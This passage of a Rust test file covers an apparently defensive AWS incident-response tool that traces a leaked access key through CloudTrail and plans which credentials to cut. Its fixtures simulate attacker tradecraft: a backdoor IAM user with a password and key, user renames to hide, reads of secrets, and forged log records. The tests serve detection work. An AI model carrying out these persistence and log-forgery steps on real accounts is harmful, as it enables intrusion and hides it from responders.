    let ro = format!("arn:aws:iam::{MAIN}:role/ReadOnly");
    let other = s.assume_role(&alice, B - 500, &ro, "alice", 3600);
    s.call(&other, B - 490, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let session = s.assume_role(&leaked, B, &billing, "ci2", 900);
    s.call(&session, B + 120, "signin.amazonaws.com", "GetSigninToken", Value::Null);
    for signer in [identity_of(&mut s, &other), identity_of(&mut s, &same)] {
        s.copy_records(true, |r| {
            let copy = r["eventName"] == "GetSigninToken"
                && r["userIdentity"]["accessKeyId"] == session.key.as_str();
            if copy {
                r["userIdentity"] = signer.clone();
            }
            copy
        });
    }
    let d = write(&s, &[]);
    let (_, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert!(principals(&p, "put_role_policy").contains(&billing), "{err}: {p:#}");
}

/// A copy of the leaked user key's first call saying root signed it with root's principal id
/// and no ARN, or with `type` Root and the user's ARN: still a dispute, left to a review.
#[test]
fn a_key_claimed_by_root_in_other_shapes_is_left_to_a_review() {
    for keep_arn in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.call(&leaked, T0 - 3000, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
        s.call(&leaked, T0 - 2000, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.copy_records(true, |r| {
            let copy = r["eventName"] == "GetCallerIdentity";
            if copy {
                r["userIdentity"]["type"] = json!("Root");
                if !keep_arn {
                    r["userIdentity"]["principalId"] = json!(MAIN);
                    let u = r["userIdentity"].as_object_mut().unwrap();
                    u.remove("arn");
                    u.remove("userName");
                }
            }
            copy
        });
        let d = write(&s, &[]);
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{keep_arn}: {err} {p:#}");
        assert!(review_reasons(&p).join("\n").contains("root of account"), "{p:#}");
        assert_eq!(verify(&d, &p).0, 1, "{keep_arn}");
    }
}

/// A forged deletion of the attacker's user after which its key's calls fail with errors only
/// a caller IAM knows and allows can get (NoSuchEntity on another name, a dry run): they show
/// the user there, so the deletion is not believed.
#[test]
fn errors_that_are_not_refusals_contradict_a_deletion() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    // (AccessDenied too: a key refused for want of permission was authenticated, so its user
    // is there; a deleted key is not known at all.)
    for code in ["NoSuchEntityException", "Client.DryRunOperation", "AccessDenied"] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let adm = s.assume_role(&leaked, T0 - 3600, &admin, "ci", 43200);
        s.create_user(&adm, T0 - 3500, "evil");
        s.create_login_profile(&adm, T0 - 3490, "evil");
        let key = s.create_access_key(&adm, T0 - 3480, Some("evil"));
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        s.call(&alice, T0 - 3000, "iam.amazonaws.com", "DeleteUser", json!({"userName": "evil"}));
        let q = json!({"userName": "nobody"});
        s.call_full(
            &key,
            T0 - 1200,
            "iam.amazonaws.com",
            "GetUser",
            q,
            Value::Null,
            Some(code),
            "aws-cli/2.15.0",
        );
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        let deleted: Vec<_> =
            actions(&p, "delete_user").iter().map(|a| a["user_name"].clone()).collect();
        assert_eq!(deleted, [json!("evil")], "{code}: {p:#}");
    }
}

/// Secrets and parameters read with records that carry no `resources` (as `GetSecretValue`'s
/// do not) are named by their request: before, three secrets read showed as one resource,
/// the service (a review of the blast radius).
#[test]
fn the_secrets_and_parameters_read_are_named() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    for (k, id) in ["prod/db", "prod/api", "prod/stripe"].iter().enumerate() {
        let q = json!({"secretId": id});
        s.call(&leaked, T0 + k as i64, "secretsmanager.amazonaws.com", "GetSecretValue", q);
    }
    s.call(&leaked, T0 + 9, "ssm.amazonaws.com", "GetParameter", json!({"name": "/app/key"}));
    let d = write(&s, &[]);
    let (_, b, _) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    let read: Vec<&str> = b["data_access"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|a| a["resource"].as_str())
        .collect();
    for want in ["prod/db", "prod/api", "prod/stripe", "/app/key"] {
        assert!(read.contains(&want), "{want}: {read:?}");
    }
}

/// `--principal` with the name a user had before the trail shows it renamed selects the
/// renamed user's credentials (a review: the leaked key renamed its user, and the plan by the
/// old name missed it); a name two users had (one renamed or deleted, another made under it)
/// is refused, naming both users' keys: before, the later user alone was seeded, its key cut
/// as "leaked key", and the leaked key left active under its new name; plan and verify OK.
#[test]
fn a_principal_named_before_a_rename_is_the_renamed_user_and_a_name_two_users_had_is_refused() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", json!({}));
    let rename = json!({"userName": "ci-deployer", "newUserName": "svc"});
    s.call(&leaked, T0 + 60, "iam.amazonaws.com", "UpdateUser", rename.clone());
    let admin =
        s.assume_role(&leaked, T0 + 120, &format!("arn:aws:iam::{MAIN}:role/AdminRole"), "x", 3600);
    s.call(&admin, T0 + 180, "iam.amazonaws.com", "ListUsers", json!({}));
    // The key's calls after the rename name the user by its new name.
    let renamed = |s: &mut Scenario| {
        s.edit_records(|_, r| {
            let after = r["eventTime"].as_str().is_some_and(|t| t > "2024-03-11T10:01:00Z");
            if after && r["userIdentity"]["accessKeyId"] == LEAKED {
                r["userIdentity"]["arn"] = format!("arn:aws:iam::{MAIN}:user/svc").into();
                r["userIdentity"]["userName"] = "svc".into();
            }
        })
    };
    renamed(&mut s);
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    assert_eq!(p["seeds"], json!([LEAKED]), "{p:#}");
    let keys: Vec<&Value> = actions(&p, "deactivate_access_key");
    assert!(keys.iter().any(|a| a["access_key_id"] == LEAKED), "{p:#}");
    // A user made later under the old name, with its own unique id and key.
    let newer = "AKIAQQQQNEWCIKEY0001";
    let again = s.user_key(MAIN, "ci-deployer", newer);
    s.call(&again, T0 + 600, "s3.amazonaws.com", "ListBuckets", json!({}));
    s.edit_records(|_, r| {
        if r["userIdentity"]["accessKeyId"] == newer {
            r["userIdentity"]["principalId"] = "AIDAQQQQNEWCIDEPLOY2".into();
        }
    });
    let d = write(&s, &[]);
    for cmd in ["plan", "blast"] {
        let (code, _, err) = run(&[cmd, "--principal", &user], &d);
        assert_eq!(code, 2, "{cmd}: {err}");
        assert!(
            err.contains("was the name of 2 different users")
                && err.contains(LEAKED)
                && err.contains(newer),
            "{cmd}: {err}"
        );
    }
    // The leaked key itself still plans.
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    assert_eq!(p["seeds"], json!([LEAKED]));

    // Another user renamed to the old name (not made under it) holds it too.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", json!({}));
    s.call(&leaked, T0 + 60, "iam.amazonaws.com", "UpdateUser", rename.clone());
    let alice = s.user_key(MAIN, "alice", "AKIAQQQQALICEKEY0001");
    s.call(&alice, T0 + 90, "s3.amazonaws.com", "ListBuckets", json!({}));
    let into = json!({"userName": "alice", "newUserName": "ci-deployer"});
    s.call(&alice, T0 + 120, "iam.amazonaws.com", "UpdateUser", into);
    s.call(&alice, T0 + 180, "s3.amazonaws.com", "ListBuckets", json!({}));
    renamed(&mut s);
    s.edit_records(|_, r| {
        let after = r["eventTime"].as_str().is_some_and(|t| t > "2024-03-11T10:02:00Z");
        if after && r["userIdentity"]["accessKeyId"] == "AKIAQQQQALICEKEY0001" {
            r["userIdentity"]["arn"] = format!("arn:aws:iam::{MAIN}:user/ci-deployer").into();
        }
    });
    let d = write(&s, &[]);
    let (code, _, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &d);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("AKIAQQQQALICEKEY0001") && err.contains(LEAKED), "{err}");
    // The new name is the leaked user's alone.
    let svc = format!("arn:aws:iam::{MAIN}:user/svc");
    let (code, p, err) = run(&["plan", "--principal", &svc, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    assert_eq!(p["seeds"], json!([LEAKED]));

    // Renamed to it through a name between, under which the trail shows none of its calls.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", json!({}));
    s.call(&leaked, T0 + 60, "iam.amazonaws.com", "UpdateUser", rename);
    let alice = s.user_key(MAIN, "alice", "AKIAQQQQALICEKEY0001");
    s.call(&alice, T0 + 90, "s3.amazonaws.com", "ListBuckets", json!({}));
    let hop = json!({"userName": "alice", "newUserName": "mid"});
    s.call(&alice, T0 + 100, "iam.amazonaws.com", "UpdateUser", hop);
    let into = json!({"userName": "mid", "newUserName": "ci-deployer"});
    s.call(&alice, T0 + 120, "iam.amazonaws.com", "UpdateUser", into);
    s.call(&alice, T0 + 180, "s3.amazonaws.com", "ListBuckets", json!({}));
    renamed(&mut s);
    s.edit_records(|_, r| {
        let t = r["eventTime"].as_str().unwrap_or("").to_string();
        if r["userIdentity"]["accessKeyId"] == "AKIAQQQQALICEKEY0001" {
            let name = match t.as_str() {
                t if t > "2024-03-11T10:02:00Z" => "ci-deployer",
                t if t > "2024-03-11T10:01:40Z" => "mid",
                _ => "alice",
            };
            r["userIdentity"]["arn"] = format!("arn:aws:iam::{MAIN}:user/{name}").into();
            r["userIdentity"]["userName"] = name.into();
        }
    });
    let d = write(&s, &[]);
    let (code, _, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &d);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("AKIAQQQQALICEKEY0001") && err.contains(LEAKED), "{err}");
}

/// A plan seeded by a user's ARN cuts its keys and denies its sessions, but a deny on
/// `aws:TokenIssueTime` leaves the user's console password (it signed in) and a key of it
/// the trail does not name (a federation token's issuer, F13, when the trail shows no key of
/// the user) valid after any cut-off (a review: plan and verify said OK). The plan removes
/// the password (`delete_login_profile`), which verify holds it to; the unseen key is a NOT
/// CUT review item: `plan` exits 1 and `verify` fails.
#[test]
fn a_principal_users_password_is_removed_and_an_unseen_key_is_not_cut() {
    let user = format!("arn:aws:iam::{MAIN}:user/ops");
    // The user's key is in the trail and it signed in: the password is removed, all cut.
    let mut s = Scenario::new();
    let ops = s.user_key(MAIN, "ops", LEAKED);
    s.call(&ops, T0, "sts.amazonaws.com", "GetCallerIdentity", json!({}));
    let console = s.console_login(MAIN, T0 + 600, "ops");
    s.call(&console, T0 + 610, "s3.amazonaws.com", "ListBuckets", json!({}));
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    let removed: Vec<&Value> = actions(&p, "delete_login_profile");
    assert_eq!(removed.len(), 1, "{p:#}");
    assert_eq!(removed[0]["user_name"], "ops");
    assert!(removed[0]["reason"].as_str().unwrap().contains("console password of user ops"));
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    // Without that action, verify says the password is not cut.
    let mut edited = p.clone();
    edited["actions"].as_array_mut().unwrap().retain(|a| a["type"] != "delete_login_profile");
    let (code, v) = verify(&d, &edited);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["notes"].to_string().contains("NOT CUT: the console password of user ops"), "{v:#}");
    // Seeded by the key alone, the password is not the plan's.
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    assert!(actions(&p, "delete_login_profile").is_empty(), "{p:#}");

    // An older user of the name was renamed away before this one was made: the password
    // removed is the principal's, not the renamed user's (a review: `alice-archived`'s was).
    let mut s = Scenario::new();
    let admin = s.user_key(MAIN, "admin", "AKIAQQQQADMINKEY0001");
    let away = json!({"userName": "ops", "newUserName": "ops-archived"});
    s.call(&admin, T0 - 3600, "iam.amazonaws.com", "UpdateUser", away);
    let ops = s.user_key(MAIN, "ops", LEAKED);
    s.call(&ops, T0, "sts.amazonaws.com", "GetCallerIdentity", json!({}));
    let console = s.console_login(MAIN, T0 + 600, "ops");
    s.call(&console, T0 + 610, "s3.amazonaws.com", "ListBuckets", json!({}));
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    let removed: Vec<&Value> = actions(&p, "delete_login_profile");
    assert_eq!(removed.len(), 1, "{p:#}");
    assert_eq!(removed[0]["user_name"], "ops", "{p:#}");

    // The user shows no key in the trail, only a federation token (its record not in the
    // trail either) and a sign-in.
    let mut s = Scenario::new();
    let console = s.console_login(MAIN, T0 + 600, "ops");
    s.call(&console, T0 + 610, "s3.amazonaws.com", "ListBuckets", json!({}));
    let hidden = s.user_key(MAIN, "ops", "AKIAQQQQOPSOTHERKEY1");
    let fed = s.get_federation_token(&hidden, T0 + 900, "contractor", 3600);
    s.call(&fed, T0 + 910, "s3.amazonaws.com", "ListBuckets", json!({}));
    s.drop_records(|_, r| r["userIdentity"]["accessKeyId"] == "AKIAQQQQOPSOTHERKEY1");
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["principal_credentials_by_hand"], 1, "{:#}", p["summary"]);
    let reviews = review_reasons(&p).join("\n");
    assert!(
        reviews
            .contains("an access key of user ops (the --principal) that the trail does not show"),
        "{reviews}"
    );
    assert_eq!(actions(&p, "delete_login_profile").len(), 1, "{p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v:#}");
    let notes = v["notes"].to_string();
    assert!(notes.contains("NOT CUT: an access key of user ops"), "{notes}");
    assert!(!notes.contains("NOT CUT: the console password"), "{notes}");
}

/// `verify -k ARN` of a plan made for that principal and another key fails: the plan
/// deactivates that key too (a review: a plan for a user's ARN and a colleague's innocent key
/// passed `verify -k ARN`, which checked only that the keys given were among the plan's).
#[test]
fn verify_of_a_principal_fails_a_plan_made_for_one_more_key() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", json!({}));
    let alice = s.user_key(MAIN, "alice", "AKIAQQQQALICEKEY0001");
    s.call(&alice, T0 + 60, "s3.amazonaws.com", "ListBuckets", json!({}));
    let d = write(&s, &[]);
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    let plan = d.path().join("plan.json");
    let (_, _, err) = run(
        &["plan", "--principal", &user, "--key", "AKIAQQQQALICEKEY0001", "--effective-at", CUT]
            .into_iter()
            .chain(["-o", plan.to_str().unwrap()])
            .collect::<Vec<_>>(),
        &d,
    );
    assert!(plan.exists(), "{err}");
    let check = |given: &[&str]| {
        let mut args = vec!["verify", "--format", "json", "--plan", plan.to_str().unwrap()];
        for g in given {
            args.extend(["--key", g]);
        }
        let (code, v, err) = run(&args, &d);
        assert!(v.is_object(), "{err}");
        (code, v["notes"].to_string())
    };
    let (code, notes) = check(&[&user]);
    assert_eq!(code, 1, "{notes}");
    assert!(notes.contains("not for the key(s) given"), "{notes}");
    let (code, notes) = check(&[&user, "AKIAQQQQALICEKEY0001"]);
    assert_eq!(code, 0, "the principal and the key the plan was made for: {notes}");
    let (code, notes) = check(&[&user, LEAKED]);
    assert_eq!(code, 1, "{notes}");
}

/// Parameters read several at a time (`GetParameters`' `names`) or by path
/// (`GetParametersByPath`) are each named by the blast and its finding: before, those reads
/// said "not named in the records", and the responder told to "rotate every credential stored
/// in the parameters read" had none to rotate (a gap the reviews of 2026-12-07 left). Another
/// service's `names` or `path` (an IAM user's path) names nothing read.
#[test]
fn parameters_read_several_at_a_time_or_by_path_are_each_named() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let names = json!({"names": ["/prod/db-password", "/prod/stripe-key"], "withDecryption": true});
    s.call(&leaked, T0, "ssm.amazonaws.com", "GetParameters", names);
    let path = json!({"path": "/prod/payments/", "recursive": true, "withDecryption": true});
    s.call(&leaked, T0 + 5, "ssm.amazonaws.com", "GetParametersByPath", path);
    let d = write(&s, &[]);
    let (_, b, err) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    let read: Vec<&str> = b["data_access"]
        .as_array()
        .unwrap_or_else(|| panic!("{err}"))
        .iter()
        .filter_map(|a| a["resource"].as_str())
        .collect();
    assert_eq!(read, ["/prod/db-password", "/prod/stripe-key", "/prod/payments/*"], "{b:#}");
    let finding = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["title"] == "Data read: SSM parameters")
        .unwrap_or_else(|| panic!("{b:#}"));
    let detail = finding["detail"].as_str().unwrap();
    assert_eq!(
        detail, "3 read(s) of 3 resource(s): /prod/db-password, /prod/payments/*, /prod/stripe-key",
        "{finding:#}"
    );
    // The request names what was read in the exported table too.
    let out = tempfile::tempdir().unwrap();
    let csv = out.path().join("events.csv");
    run(&["export", "-o", csv.to_str().unwrap()], &d);
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.contains("/prod/db-password /prod/stripe-key"), "{text}");
}

/// The objects read from one bucket are one finding whatever the partition (a review: each
/// object of a GovCloud bucket was a finding of its own, titled by its whole ARN), and each is
/// named by its whole key.
#[test]
fn objects_read_from_one_bucket_are_one_finding_in_any_partition() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    for (i, key) in ["hr/1.csv", "hr/2.csv", "payroll/0.csv"].iter().enumerate() {
        s.get_object(&leaked, T0 + i as i64, MAIN, "gov-payroll", key);
    }
    let d = write(&s, &[]);
    into_partition(&d, "aws-us-gov", "us-gov-west-1");
    let (_, b, err) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    let reads: Vec<&Value> = b["findings"]
        .as_array()
        .unwrap_or_else(|| panic!("{err}"))
        .iter()
        .filter(|f| f["kind"] == "data_read")
        .collect();
    assert_eq!(reads.len(), 1, "{reads:#?}");
    assert_eq!(reads[0]["title"], "Data read: bucket/gov-payroll");
    let detail = reads[0]["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("3 read(s) of 3 resource(s): hr/1.csv, hr/2.csv, payroll/0.csv"),
        "{detail}"
    );
}
